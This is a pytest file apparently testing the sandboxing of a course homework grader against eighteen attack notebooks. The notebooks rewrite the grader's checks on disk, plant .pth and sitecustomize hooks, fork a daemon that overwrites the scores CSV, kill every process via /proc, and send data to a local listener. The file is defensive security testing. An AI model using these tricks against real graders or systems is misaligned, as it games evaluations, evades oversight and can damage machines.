"""The grader's threat model, as tests: what a submission may try and why it cannot raise
its score, change a classmate's, or change the teacher's machine.

The teacher: a throwaway checkout of cnnlib (copied from this repository) and a throwaway
virtual environment (whose site-packages reaches this one's packages through a .pth path
line); the grader runs from them, as a teacher would run it from a clone. The attacks know
every path (the checkout, site-packages, the CSV, the reports): the worst case.

The student: one notebook per attack (eighteen), graded in ONE call beside honest and blank
submissions (before and after them, two at a time). Every attack scores 0 on the exercise
it targets, no other submission's score changes, the checkout and the environment are
byte for byte unchanged afterwards (sha256), the CSV is written once by the grader and not
touched after, and nothing the submissions started is still running.

Guarantees that rely on running the submissions as a user of their own need the grader to
run as root; without root the cheat test is skipped, and the others (a changed package
stops the grading; the sweep) still run.

Also here: the sweep. For every exercise, every public function and method of the grading
build is called with the exercise's cases; none may reproduce cnnlib's answer. A cnnlib
function that computes an exercise's result and is missing from exercises.EQUIVALENTS (now,
or after a refactor moves it) fails this test.
"""

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import time
import venv
from pathlib import Path

import numpy as np
import pytest

from cnnlib.homework import exercises, grading_build, source, supervise
from cnnlib.homework.grade import cases_and_expected, site_dirs

ROOT = Path(__file__).resolve().parents[1]
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="the grader isolates submissions "
                                "by user id only when it runs as root")


# ---------------------------------------------------------------- the teacher's machine
def sha256_tree(*folders):
    out = {}
    for folder in folders:
        for root, dirs, files in os.walk(folder):
            dirs[:] = [d for d in dirs if d != "__pycache__"]
            for f in files:
                p = os.path.join(root, f)
                with open(p, "rb") as fh:
                    out[p] = hashlib.sha256(fh.read()).hexdigest()
            out[root] = "folder"
    return out


@pytest.fixture(scope="module")
def teacher(tmp_path_factory):
    root = tmp_path_factory.mktemp("teacher")
    checkout = root / "checkout"
    shutil.copytree(ROOT / "cnnlib", checkout / "cnnlib",
                    ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(ROOT / "resources", checkout / "resources")
    shutil.copytree(ROOT / "homework" / "answers", checkout / "homework" / "answers")
    shutil.copy(ROOT / "pyproject.toml", checkout / "pyproject.toml")
    env = root / "venv"
    venv.create(env, with_pip=False, symlinks=True)
    site = next((env / "lib").glob("python3*/site-packages"))
    ours = [str(d) for d in site_dirs() if "site-packages" in str(d)]
    (site / "course.pth").write_text("\n".join(ours) + "\n")
    return {"root": root, "checkout": checkout, "python": env / "bin" / "python",
            "site": site, "csv": root / "scores.csv", "reports": root / "reports"}


def grade(teacher, paths, *extra):
    """Run the grader as the teacher would, from the throwaway checkout and environment."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "CNNLIB"))}
    env["PYTHONPATH"] = str(teacher["checkout"])
    return subprocess.run([str(teacher["python"]), "-m", "cnnlib.homework", "grade",
                           *map(str, paths), "--csv", str(teacher["csv"]),
                           "--reports", str(teacher["reports"]), "--jobs", "2",
                           "--cell-timeout", "60", "--grade-timeout", "60", *extra],
                          cwd=teacher["root"], env=env, capture_output=True, text=True,
                          timeout=1500)


def notebook(path, *cells, exercise="softmax"):
    """A thin notebook: code cells; the one starting with 'def <name>' is the answer."""
    name = exercises.get(exercise).name
    nb = {"cells": [], "metadata": {"kernelspec": {"name": "python3", "language": "python",
                                                   "display_name": "Python 3"}},
          "nbformat": 4, "nbformat_minor": 5}
    for i, text in enumerate(cells):
        meta = {"homework": {"exercise": exercise, "role": "solution"}} \
            if f"def {name}(" in text or f"class {name}" in text else {}
        nb["cells"].append({"cell_type": "code", "execution_count": None, "id": f"c{i}",
                            "metadata": meta, "outputs": [], "source": text})
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


HEAD = "import numpy as np\n"
RIGHT = ("def softmax(z):\n    e = np.exp(z - z.max(axis=-1, keepdims=True))\n"
         "    return e / e.sum(axis=-1, keepdims=True)\n")
BLANK = source.student_source(exercises.get("softmax"))


def uses(helper):
    """A blank answer that returns what the attack cell put in CHEAT (computed any way)."""
    return "def softmax(z):\n    return " + helper + "\n"


def attacks(t, port=0):
    """{file name: (target exercise, cells)}: each attack, with the paths it knows (and the
    port of a listener on the machine's loopback interface)."""
    checkout, site, csv_path = t["checkout"], t["site"], t["csv"]
    losses = checkout / "cnnlib" / "losses.py"
    return {
        # 1. rewrite the grader's comparison on disk, in the teacher's checkout and in the
        #    copy the notebook imports, and reload it (raised a blank answer to 1/1 before)
        "03_rewrite_checks.ipynb": ("softmax", [HEAD + (
            "import importlib, cnnlib, cnnlib.homework.checks as c\n"
            f"for folder in [{str(checkout / 'cnnlib')!r}, cnnlib.__path__[0]]:\n"
            "    try:\n"
            "        p = folder + '/homework/checks.py'\n"
            "        text = open(p).read().replace('def compare(', 'def compare(*a, **k):\\n"
            "    return None\\n\\n\\ndef _old_compare(')\n"
            "        open(p, 'w').write(text)\n"
            "    except OSError as err:\n        print(err)\n"
            "importlib.reload(c)\n"), BLANK]),
        # 2. rewrite cnnlib's own solution module so that the grader's expected values
        #    become what the blank answer returns
        "03_rewrite_losses.ipynb": ("softmax", [HEAD + (
            f"try:\n    open({str(losses)!r}, 'a').write('\\ndef softmax(z):\\n    return z\\n')\n"
            "except OSError as err:\n    print(err)\n"), uses("z")]),
        # 3. a .pth file in the environment's site-packages runs in every later Python,
        #    the grader's included
        "03_pth.ipynb": ("softmax", [HEAD + (
            f"try:\n    open({str(site / 'zz_cheat.pth')!r}, 'w').write("
            "'import cnnlib.homework.checks as c; c.compare = lambda *a, **k: None\\n')\n"
            "except OSError as err:\n    print(err)\n"), uses("z")]),
        # 4. a daemon (double fork, new session) that outlives the run and rewrites the CSV
        "03_daemon.ipynb": ("softmax", [HEAD + (
            "import os, time\n"
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        for _ in range(40):\n            time.sleep(0.25)\n"
            "            try:\n"
            f"                open({str(csv_path)!r}, 'w').write('cheat-daemon')\n"
            "            except OSError:\n                pass\n"
            "    os._exit(0)\n"), BLANK]),
        # 5. default-argument capture of the reference, fetched in another cell
        "03_default_arg.ipynb": ("softmax", [HEAD + "from cnnlib.losses import softmax as REF\n",
                                             "def softmax(z, _ref=REF):\n    return _ref(z)\n"]),
        # 6. the reference reached through a list (and a closure)
        "03_via_list.ipynb": ("softmax", [HEAD + "import cnnlib.losses as L\n"
                                          "REFS = [L.log_softmax]\n",
                                          uses("np.exp(REFS[0](z))")]),
        # 7. equivalent cnnlib functions that are not "the" solution: the cross-entropy's
        #    gradient is (p - onehot) / N, and a network without layers predicts softmax(z)
        "03_equivalent_sce.ipynb": ("softmax", [HEAD + (
            "from cnnlib.losses import softmax_cross_entropy\n"
            "def via_gradient(z):\n    z2 = np.asarray(z).reshape(-1, np.shape(z)[-1])\n"
            "    _, d = softmax_cross_entropy(z2, np.zeros(len(z2), dtype=int))\n"
            "    p = d * len(z2)\n    p[:, 0] += 1\n    return p.reshape(np.shape(z))\n"),
            uses("via_gradient(z)")]),
        "03_equivalent_model.ipynb": ("softmax", [HEAD + (
            "from cnnlib.model import Sequential\n"
            "def via_model(z):\n    z2 = np.asarray(z).reshape(-1, np.shape(z)[-1])\n"
            "    return Sequential([]).predict_proba(z2).reshape(np.shape(z))\n"),
            uses("via_model(z)")]),
        # 8. os through numpy's attributes (past any blocklist), then cnnlib's source read
        #    from the teacher's checkout (and the main one) and executed
        "03_os_via_numpy.ipynb": ("softmax", [HEAD + (
            "import types\n"
            "def find_os(mod, depth=0, seen=set()):\n"
            "    for k in dir(mod):\n        v = getattr(mod, k, None)\n"
            "        if isinstance(v, types.ModuleType):\n"
            "            if v.__name__ == 'os':\n                return v\n"
            "            if v.__name__.startswith('numpy') and id(v) not in seen and depth < 3:\n"
            "                seen.add(id(v))\n                r = find_os(v, depth + 1)\n"
            "                if r:\n                    return r\n"
            "OS = find_os(np)\nNS = {}\n"
            f"for p in [{str(losses)!r}, {str(ROOT / 'cnnlib' / 'losses.py')!r},\n"
            "          '/work/main/cnnlib/losses.py']:\n"
            "    try:\n        fd = OS.open(p, OS.O_RDONLY)\n"
            "        text = OS.read(fd, 10**6).decode()\n"
            "        exec(text.replace('from .checks', 'from cnnlib.checks'), NS)\n"
            "        break\n    except Exception as err:\n        print(err)\n"),
            uses("NS['softmax'](z)")]),
        # 9. monkeypatching numpy in the process that runs the answer (comparisons too)
        "03_patch_numpy.ipynb": ("softmax", [HEAD + (
            "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"), BLANK]),
        # 10. writing the grader's result files: every file of every grading folder it can
        #     reach, the CSV and the reports
        "03_write_results.ipynb": ("softmax", [HEAD + (
            "import glob, os\n"
            "for p in glob.glob('/tmp/cnnlib-grade-*/**', recursive=True) + "
            f"[{str(csv_path)!r}, {str(t['reports'] / 'x.md')!r}]:\n"
            "    try:\n        open(p, 'w').write('cheat')\n    except OSError:\n        pass\n"
            "def cheat(z):\n    return z\n"), uses("cheat(z)")]),
        # 11. signalling the parent (the supervisor), the grader and every process it can
        "03_signals.ipynb": ("softmax", [HEAD + (
            "import os, signal\n"
            "for pid in [os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    if pid != os.getpid():\n        try:\n"
            "            os.kill(pid, signal.SIGKILL)\n        except OSError:\n            pass\n"
            "def cheat(z):\n    return z\n"), uses("cheat(z)")]),
        # 12. environment tricks: a sitecustomize.py and PYTHONSTARTUP in the work folder,
        #     the test suite's flag, a ~/.ipython startup file for later kernels
        "03_env_tricks.ipynb": ("softmax", [HEAD + (
            "import os\nos.environ['CNNLIB_HOMEWORK_EXPECT'] = 'passed'\n"
            "code = 'import cnnlib.homework.checks as c; c.compare = lambda *a, **k: None\\n'\n"
            "for p in ['sitecustomize.py', 'usercustomize.py', os.path.expanduser("
            "'~/.ipython/profile_default/startup/00-cheat.py'), '/tmp/sitecustomize.py']:\n"
            "    try:\n        os.makedirs(os.path.dirname(os.path.abspath(p)), exist_ok=True)\n"
            "        open(p, 'w').write(code)\n    except OSError:\n        pass\n"
            "os.environ['PYTHONSTARTUP'] = os.path.abspath('sitecustomize.py')\n"
            "def cheat(z):\n    return z\n"), uses("cheat(z)")]),
        # 13. the original solution found in memory (gc) or rebuilt from cnnlib's files
        "03_gc_search.ipynb": ("softmax", [HEAD + (
            "import gc, cnnlib.losses\n"
            "def found(z):\n"
            "    for f in gc.get_objects():\n"
            "        if getattr(f, '__name__', '') == 'log_softmax' and callable(f):\n"
            "            try:\n                return np.exp(f(z))\n"
            "            except Exception:\n                pass\n"
            "    return z\n"), uses("found(z)")]),
        # 16. phoning home from the grading process (to fetch a solution, or to report the
        #     hidden cases): the answer connects to a listener on the machine
        "03_phone_home.ipynb": ("softmax", [HEAD + "import socket\n", (
            "def softmax(z):\n    try:\n"
            f"        s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
            "        s.sendall(repr(np.asarray(z).tolist()).encode())\n"
            "    except OSError:\n        pass\n    return z\n")]),
        # 14. a non-forbidden equivalent of another exercise: the batch-last im2col path
        "01_batch_last.ipynb": ("conv2d_loop", [HEAD + (
            "from cnnlib.im2col import im2col_batch_last\n"),
            "def conv2d_loop(x, w, b, stride=1, pad=0):\n"
            "    f, c, kh, kw = w.shape\n    n, _, h, wd = x.shape\n"
            "    ho, wo = (h + 2*pad - kh)//stride + 1, (wd + 2*pad - kw)//stride + 1\n"
            "    cols = im2col_batch_last(x, kh, kw, stride, pad)\n"
            "    out = w.reshape(f, -1) @ cols.reshape(c * kh * kw, -1)\n"
            "    return (out.reshape(f, ho, wo, n).transpose(3, 0, 1, 2)\n"
            "            + b[None, :, None, None]).astype(np.result_type(x, w))\n"]),
        # 15. the training split's helper does forward, loss and backward of a step
        "08_split_helper.ipynb": ("train_step", [HEAD + (
            "from cnnlib.speed.parts import part_gradients\n"),
            "def train_step(net, xb, yb, optimizer):\n"
            "    loss, logits = part_gradients(net, xb, yb, 1.0)\n"
            "    optimizer.step()\n"
            "    return loss, logits\n"]),
        # 17. the training split's BatchNorm twin, met by one part alone (cnnlib.speed.synced):
        #     a whole training-mode forward and backward; inference is written by hand
        "12_sync_batchnorm.ipynb": ("batchnorm", [HEAD + (
            "from cnnlib.batchnorm import BatchNorm as Base, _shaped\n"
            "from cnnlib.speed.synced import Meeting, SyncBatchNorm, _twin\n"),
            "class BatchNorm(Base):\n"
            "    def forward(self, x):\n"
            "        self.twin = None\n"
            "        if self.training:\n"
            "            self.twin = _twin(SyncBatchNorm, self, meeting=Meeting(1), part=0)\n"
            "            return self.twin.forward(x)\n"
            "        inv = 1 / np.sqrt(self.buffers['running_var'] + x.dtype.type(self.eps))\n"
            "        self.scale = _shaped(self.params['gamma'] * inv.astype(x.dtype), x)\n"
            "        xhat = (x - _shaped(self.buffers['running_mean'], x).astype(x.dtype))"
            " * _shaped(inv, x).astype(x.dtype)\n"
            "        return _shaped(self.params['gamma'], x) * xhat + "
            "_shaped(self.params['beta'], x)\n"
            "    def backward(self, dout):\n"
            "        if self.twin is None:\n"
            "            return dout * self.scale\n"
            "        dx = self.twin.backward(dout)\n"
            "        self.grads = self.twin.grads\n"
            "        return dx\n"]),
        # 18. the training split's dropout mask, drawn for the whole batch (cnnlib.speed.synced)
        "12_split_dropout_mask.ipynb": ("dropout", [HEAD + (
            "from cnnlib.dropout import Dropout as Base\n"
            "from cnnlib.speed.synced import _Draw\n"),
            "class Dropout(Base):\n"
            "    def forward(self, x):\n"
            "        self.shape = x.shape\n"
            "        self.mask = None\n"
            "        if not self.training or self.p == 0:\n"
            "            return x\n"
            "        self.mask = _Draw(self).mask(x.shape, x.dtype)\n"
            "        return x * self.mask\n"
            "    def backward(self, dout):\n"
            "        return dout if self.mask is None else dout * self.mask\n"]),
    }


@needs_root
def test_every_cheat_scores_zero_and_changes_nothing_else(teacher, tmp_path):
    t = teacher
    subs = tmp_path / "submissions"
    subs.mkdir()
    honest = [notebook(subs / f"03_honest_{k}.ipynb", HEAD, RIGHT) for k in "ab"]
    blank = [notebook(subs / f"03_blank_{k}.ipynb", HEAD, BLANK) for k in "ab"]
    import socket
    import threading
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.5)
    heard, stop = [], threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                heard.append(conn.recv(100))
                conn.close()
            except OSError:
                pass
    threading.Thread(target=listen, daemon=True).start()
    cheats = {}
    for name, (target, cells) in attacks(t, listener.getsockname()[1]).items():
        cheats[name] = (target, notebook(subs / name, *cells, exercise=target))
    paths = [honest[0], blank[0]] + [p for _, p in cheats.values()] + [honest[1], blank[1]]
    protected = [t["checkout"], t["site"]] + [Path(d) for d in site_dirs()
                                               if "site-packages" in str(d)]
    before = sha256_tree(*protected[:2])
    stat_before = {p: os.stat(p).st_ctime_ns for p in sha256_tree(*protected[2:])}

    done = grade(t, paths)
    assert done.returncode == 0, done.stderr[-3000:]
    text = t["csv"].read_text()
    rows = {Path(r["submission"]).name: r for r in csv.DictReader(io.StringIO(text))}
    for p in honest:
        assert rows[p.name]["softmax"] == "1", rows[p.name]
    for p in blank:
        assert rows[p.name]["softmax"] == "0" and \
            rows[p.name]["softmax reason"] == "not implemented", rows[p.name]
    for name, (target, _) in cheats.items():
        assert rows[name][target] == "0", (name, rows[name])
    # nothing outlives the grading: the daemon's CSV rewrite never comes
    time.sleep(12)
    assert t["csv"].read_text() == text
    stop.set()
    listener.close()
    assert heard == []                  # the grading processes have no network
    assert not [p for p, (_, uid, _) in supervise.processes().items() if uid >= 64000]
    # the checkout and the environments are byte for byte (and stat for stat) unchanged
    assert sha256_tree(*protected[:2]) == before
    assert {p: os.stat(p).st_ctime_ns for p in sha256_tree(*protected[2:])} == stat_before
    assert not list(Path("/tmp").glob("cnnlib-grade-*"))
    report = (t["reports"] / "03_rewrite_checks.md").read_text()
    assert "Score: 0 of 2" in report


def test_a_grading_that_finds_the_package_changed_stops_and_writes_nothing(teacher, tmp_path):
    # as root the submissions cannot write the package; a change made by anyone else
    # while grading (here: the test, between two submissions) still stops the run
    t = teacher
    subs = tmp_path / "s"
    subs.mkdir()
    paths = [notebook(subs / f"03_n{k}.ipynb", HEAD, RIGHT) for k in range(2)]
    marker = t["checkout"] / "cnnlib" / "zz_touched.py"
    script = ("import sys, pathlib\nfrom cnnlib.homework import grade as g\n"
              "old = g.grade_one\n"
              "def touched(*a, **k):\n"
              f"    pathlib.Path({str(marker)!r}).write_text('x = 1\\n')\n"
              "    return old(*a, **k)\n"
              "g.grade_one = touched\n"
              "from cnnlib.homework.__main__ import main\n"
              "sys.exit(main(sys.argv[1:]))\n")
    csv_path = tmp_path / "out.csv"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "CNNLIB"))}
    env["PYTHONPATH"] = str(t["checkout"])
    try:
        done = subprocess.run([str(t["python"]), "-c", script, "grade", *map(str, paths),
                               "--csv", str(csv_path), "--no-execute"], env=env, cwd=tmp_path,
                              capture_output=True, text=True, timeout=600)
    finally:
        marker.unlink(missing_ok=True)
    assert done.returncode == 2, done.stderr
    assert "grading stopped" in done.stderr and "zz_touched.py" in done.stderr
    assert not csv_path.exists()


# ---------------------------------------------------------------- the sweep
def sweep(ex, stripped, tmp_path):
    """{module:qualname: how} of every cnnlib function or method of a build (stripped of
    ex's equivalents, or not) that reproduces the answer to one of ex's cases."""
    os.chmod(tmp_path, 0o755)
    (tmp_path / "root").mkdir(exist_ok=True)
    build = tmp_path / ("stripped" if stripped else "plain")
    build.mkdir()
    grading_build.make_build(build, [ex.id] if stripped else [])
    os.chmod(build, 0o755)
    cases, expected = cases_and_expected(ex.id)
    arrays = {}
    for i, (case, want) in enumerate(zip(cases, expected)):
        arrays.update({f"{i}/in/{k}": np.asarray(v) for k, v in case["inputs"].items()})
        arrays.update({f"{i}/want/{k}": np.asarray(v) for k, v in want.items()})
    stdin, out_dir = tmp_path / f"{build.name}.npz", tmp_path / f"{build.name}-out"
    out_dir.mkdir()
    np.savez(stdin, **arrays)
    work = tmp_path / f"{build.name}-work"
    work.mkdir()
    uid = 64999 if os.geteuid() == 0 else None     # as root: a user of its own, chrooted
    if uid is not None:
        os.chown(work, uid, uid)
    paths = [str(build)] + [str(d) for d in site_dirs()]
    boot = (f"import sys; sys.path[:0] = {paths!r}; sys.argv = ['sweep', {ex.id!r}]; "
            f"exec(compile(open({str(Path(__file__).with_name('homework_sweep.py'))!r}).read(),"
            " 'homework_sweep.py', 'exec'))")
    job = {"cwd": str(work), "env": {"HOME": str(work), "PATH": "/usr/bin:/bin"}, "uid": uid,
           "out_dir": str(out_dir), "newroot": str(tmp_path / "root"), "keep": [
               sys.base_prefix, sys.prefix, str(tmp_path), str(Path(__file__).parent)] + paths,
           "steps": [{"name": "sweep", "argv": [sys.executable, "-I", "-S", "-B", "-c", boot],
                      "stdin": str(stdin), "timeout": 600, "memory_mb": 3000,
                      "cpu_seconds": 600, "max_out": 10**6, "network": False}]}
    done = subprocess.run([sys.executable, "-B", "-m", "cnnlib.homework.supervise"],
                          input=json.dumps(job), capture_output=True, text=True, timeout=700)
    assert done.returncode == 0, done.stderr[-2000:]
    assert json.loads(done.stdout)["survivors"] == []
    grading_build.writable(build)
    return json.loads((out_dir / "sweep.out").read_text() or "null")


@pytest.mark.parametrize("ex", exercises.EXERCISES, ids=lambda e: e.id)
def test_no_function_of_the_grading_build_computes_the_exercise(ex, tmp_path):
    routes = sweep(ex, True, tmp_path)
    assert routes == {}, f"add these to exercises.EQUIVALENTS[{ex.id!r}]: {routes}"


@pytest.mark.parametrize("ex_id", ["conv2d_loop", "softmax", "momentum", "batchnorm", "dropout",
                                   "residual_backward"])
def test_the_sweep_finds_the_solution_in_a_build_that_keeps_it(ex_id, tmp_path):
    ex = exercises.get(ex_id)
    routes = sweep(ex, False, tmp_path)
    own = ex.equivalents[0].rsplit(".", 1)[0] if ex.methods else ex.equivalents[0]
    assert own in routes, routes
